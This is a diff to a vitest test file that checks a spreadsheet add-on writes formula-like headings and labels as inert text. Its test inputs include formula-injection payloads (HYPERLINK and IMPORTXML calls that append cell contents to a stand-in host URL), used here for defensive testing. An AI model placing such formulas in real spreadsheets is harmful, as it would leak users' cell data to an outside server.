@@ -4,6 +4,7 @@
  * the "@" format (so nothing typed is reparsed); text starting with =, +, - or @ is entered with
  * a leading apostrophe instead (the documented way to force text); a number format shows on
  * numbers only; a blank for null and the default width (100 px) where the model has none.
+ * The examples sheet's heading and labels follow the same text rule.
  */
 import { afterEach, describe, expect, it } from 'vitest'
 import { appsScriptPlatform } from '../../addon/src/platform/apps-script'
@@ -208,5 +209,45 @@ describe('replaceReport', () => {
       return log.tally()
     }
     expect(count(400)).toEqual(count(4))
+  })
+})
+
+describe('writeExamplesSheet', () => {
+  const formula = "=SATISFACTION('Responses'!B2:B)"
+
+  it('keeps a heading and labels starting with =, +, - or @ exactly as text, never formulas', () => {
+    const { spreadsheet } = spreadsheetWithUserSheets()
+    const { workbook } = appsScriptPlatform()
+    const heading = '=HYPERLINK("https://x.example/?"&A3, "Sapa")'
+    const labels = ['=IMPORTXML("https://x.example/?"&A1, "//a")', '+7 701 000 00 00', '-', '@x']
+    const target = workbook.insertSheet('Examples')
+    workbook.writeExamplesSheet(
+      target.id,
+      {
+        heading,
+        rows: [
+          ...labels.map((label) => ({ label, formula })),
+          { label: 'Satisfaction', formula },
+          { label: '', formula: '' },
+        ],
+      },
+      'sapa.examples',
+    )
+    const sheet = spreadsheet.sheets.find((s) => s.name === 'Examples') as FakeSheet
+    // Entered as "'=…": shown as the text, the automatic format so the apostrophe is not kept.
+    expect(sheet.grid[0][0]).toMatchObject({ value: heading, formula: '', format: AUTOMATIC })
+    expect(sheet.grid.slice(2, 6).map((row) => row[0])).toEqual(
+      labels.map((value) => expect.objectContaining({ value, formula: '', format: AUTOMATIC })),
+    )
+    // A label that does not look like a formula is plain text in a "@" cell.
+    expect(sheet.grid[6][0]).toMatchObject({ value: 'Satisfaction', formula: '', format: TEXT })
+    // Only the formula columns hold formulas: the formula's text beside the formula itself.
+    expect(sheet.grid[2].slice(1, 3).map((cell) => cell.formula)).toEqual([
+      '=FORMULATEXT(C3)',
+      formula,
+    ])
+    expect(sheet.grid[7].slice(0, 3).map((cell) => cell.formula)).toEqual(['', '', ''])
+    expect(sheet.grid.flatMap((row) => row[0]).filter((cell) => cell.formula)).toEqual([])
+    expect(sheet.metadata.map((m) => [m.key, m.value])).toEqual([['sapa.examples', '1']])
   })
 })
